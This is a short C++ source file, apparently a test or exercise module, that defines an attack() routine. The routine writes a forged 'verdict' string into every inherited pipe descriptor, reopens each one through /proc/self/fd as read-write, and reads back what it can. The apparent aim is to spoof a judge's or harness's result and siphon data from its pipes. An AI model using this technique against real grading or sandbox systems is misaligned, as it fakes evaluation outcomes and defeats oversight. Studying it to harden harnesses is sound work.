#include "attack.h"

static void attack(const char*) {
  for (int mode : {O_WRONLY, O_RDONLY})
    for (int number : pipes(mode)) {
      shout(number, verdict, strlen(verdict));
      std::string path = "/proc/self/fd/" + std::to_string(number);
      int again = open(path.c_str(), O_RDWR | O_NONBLOCK);
      char taken[4096];
      if (again < 0) continue;
      shout(again, verdict, strlen(verdict));
      if (read(again, taken, sizeof taken) < 0) errno = 0;
    }
}
